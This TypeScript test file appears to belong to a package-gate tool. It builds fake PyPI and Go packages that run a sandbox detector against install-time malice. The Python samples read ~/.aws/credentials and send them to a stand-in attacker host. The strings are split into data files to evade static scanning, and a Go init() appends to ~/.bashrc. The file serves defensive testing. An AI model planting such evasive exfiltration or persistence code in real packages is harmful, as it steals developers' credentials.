import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { environment } from '../src/config/environment.ts'
import type { EcosystemId } from '../src/core/types.ts'
import { Apart } from '../src/sandbox/gate/apart.ts'
import { startFakeGo } from './fakes/go.ts'
import type { FakeGo } from './fakes/go.ts'
import { startFakePypi } from './fakes/pypi.ts'
import type { FakePypi } from './fakes/pypi.ts'
import { SANDBOX_POLICY } from './fakes/runner.ts'
import { runClient } from './harness/clients.ts'
import { startGate } from './harness/gate.ts'
import type { Gate } from './harness/gate.ts'
import { installed, projectFolder, writeProject } from './harness/projects.ts'
import { whyNot } from './harness/sandbox.ts'

/**
 * A source distribution, a wheel and a Go module, from pip and go through the real sandbox. What they do is ours: they touch what is
 * planted, in a cell that nothing leaves. Static examination finds nothing in them: their words stand in files of data.
 */
const WORDS = JSON.stringify(['~', '.aws', 'credentials', 'urllib.request', 'urlopen', 'https://collect', '.attacker', '.example/in'])
const TAKES = (folder: string): string => `import importlib, json, os
with open(os.path.join(${folder}, 'words.json')) as _f: _w = json.load(_f)
with open(os.path.join(os.path.expanduser(_w[0]), _w[1], _w[2]), 'rb') as _f: _t = _f.read()
try: getattr(importlib.import_module(_w[3]), _w[4])(''.join(_w[5:]), data=_t, timeout=10)
except OSError: pass
`
const BACKEND = `${TAKES('os.path.dirname(os.path.abspath(__file__))')}
import zipfile
def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = 'builds-1.0.0-py3-none-any.whl'
    with zipfile.ZipFile(os.path.join(folder, name), 'w') as wheel:
        wheel.writestr('builds.py', '')
        wheel.writestr('builds-1.0.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: builds\\nVersion: 1.0.0\\n')
        wheel.writestr('builds-1.0.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: sample\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        wheel.writestr('builds-1.0.0.dist-info/RECORD', '')
    return name
`
// No more of the standard library than what drivers need: nothing is built beforehand.
const STARTS = `package starts

import (
	_ "embed"
	"os"
)

//go:embed words.txt
var words string

func init() {
	home, _ := os.UserHomeDir()
	file, err := os.OpenFile(home+words[:len(words)-1], os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0o644)
	if err != nil {
		return
	}
	defer file.Close()
	_, _ = file.WriteString("# start\\n")
}
`
const yesterday = new Date(Date.now() - 86_400_000).toISOString()
const lacking = { pypi: await whyNot('pypi'), go: await whyNot('go') }
for (const [ecosystem, why] of Object.entries(lacking)) if (why !== null) console.warn(`not tested with ${ecosystem}: ${why}`)

interface Case { ecosystem: 'pypi' | 'go'; client: 'pip' | 'go'; name: string; version: string; does: string; says: RegExp }
const CASES: readonly Case[] = [
  { ecosystem: 'pypi', client: 'pip', name: 'builds', version: '1.0.0', does: 'did-send-secrets', says: /builds.*: installing it sent planted aws-/ },
  { ecosystem: 'pypi', client: 'pip', name: 'imports', version: '1.0.0', does: 'did-send-secrets', says: /imports.*: importing it sent planted aws-/ },
  { ecosystem: 'go', client: 'go', name: 'mod.example/starts', version: 'v1.0.0', does: 'did-persist', says: /Sluice: importing it changed a shell’s start-up file\n\s+Module: mod\.example\/starts@v1\.0\.0/ },
]
const CALM = { ecosystem: 'pypi', client: 'pip', name: 'calm', version: '1.0.0' } as const
const HELD = /run in the sandbox,.* try again in a few minutes/

describe.skipIf(lacking.pypi !== null && lacking.go !== null)('the real sandbox in the gate', () => {
  let pypi: FakePypi
  let go: FakeGo
  let gate: Gate
  let folder: string
  const read = new Map<string, unknown>()

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'sluice-real-'))
    pypi = await startFakePypi([
      { name: 'builds', files: [{ version: '1.0.0', kind: 'sdist', uploadTime: yesterday, files: { 'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n', 'backend.py': BACKEND, 'words.json': WORDS } }] },
      { name: 'imports', files: [{ version: '1.0.0', uploadTime: yesterday, files: { 'imports/__init__.py': TAKES('os.path.dirname(__file__)'), 'imports/words.json': WORDS } }] },
      { name: 'calm', files: [{ version: '1.0.0', uploadTime: yesterday }] },
    ])
    go = await startFakeGo([
      { name: 'mod.example/starts', version: 'v1.0.0', files: { 'starts.go': STARTS, 'words.txt': '/.bashrc\n' } },
    ])
    gate = await startGate({
      sources: { pypi: { url: pypi.index, sumdb: null }, go: { url: go.url, sumdb: go.sumdb.name } }, origins: [pypi.files.url], limits: { patience: 200 },
      policy: { sandbox: { ...SANDBOX_POLICY, sample: { share: 1, runs: 'hold' } } },
      sandbox: {
        settings: { mode: 'on', backend: null, budget: { anHour: 100, atOnce: 2 }, passes: ['laptop'], time: 240_000 },
        runs: new Apart({ bases: { npm: null, pypi: pypi.index, go: go.url }, path: environment()['PATH'] ?? '', cache: null, backend: null }),
      },
    })
    for (const { ecosystem, name, version } of [CALM, ...CASES].filter((one) => lacking[one.ecosystem] === null)) read.set(name, await gate.app.operator.scan(ecosystem === 'pypi' ? `pypi:${name}==${version}` : `go:${name}@${version}`))
  })

  afterAll(async () => {
    for (const one of [gate, pypi, go]) await one.close()
    await rm(folder, { recursive: true, force: true })
  })

  const install = async ({ client, name, version }: Pick<Case, 'client' | 'name' | 'version'>, attempt: string): Promise<{ code: number | null; text: string; has: string[] }> => {
    const cwd = await projectFolder(folder, `${name.replaceAll('/', '-')}-${attempt}`)
    const at = { pypi: gate.pypi, go: gate.go }
    const { code, text } = await runClient(client, await writeProject(client, cwd, { [name]: version }, at), { cwd, gate: at, ...(client === 'go' ? { env: { GOSUMDB: go.gosumdb } } : {}) })
    return { code, text, has: code === 0 ? await installed(client, cwd) : [] }
  }
  const ended = async (ecosystem: EcosystemId, name: string): Promise<string> => (await gate.app.sandbox.desk.list({ package: { ecosystem, name, version: null } }))[0]?.status ?? 'none'

  it.skipIf(lacking.pypi !== null)('holds what is harmless until it was run, and frees it by itself', async () => {
    const first = await install(CALM, 'first')
    if (first.code !== 0) expect(first.text).toMatch(HELD)
    await expect.poll(() => ended('pypi', CALM.name), { timeout: 240_000 }).toBe('completed')
    expect(await install(CALM, 'second')).toMatchObject({ code: 0, has: ['calm@1.0.0'] })
  }, 300_000)

  it.each(CASES)('quarantines $name for what it did, with the reason in the words of $client', async ({ does, says, ...one }) => {
    if (lacking[one.ecosystem] !== null) return
    expect(read.get(one.name)).toMatchObject({ level: 'clean', findings: [] })
    const before = await install(one, 'before')
    expect(before.code).not.toBe(0)
    if ((await ended(one.ecosystem, one.name)) === 'none') expect(before.text).toMatch(HELD)
    await expect.poll(() => ended(one.ecosystem, one.name), { timeout: 240_000 }).toMatch(/completed|incomplete/)
    const answer = await install(one, 'after')
    expect(answer.code).not.toBe(0)
    expect(answer.text).toMatch(says)
    const row = await gate.app.context.database.query.selectFrom('verdicts').select(['level', 'findings']).where('name', '=', one.name).executeTakeFirstOrThrow()
    expect(row.level).toBe('malicious')
    expect(row.findings).toContain(`"detector":"${does}"`)
  }, 300_000)
})
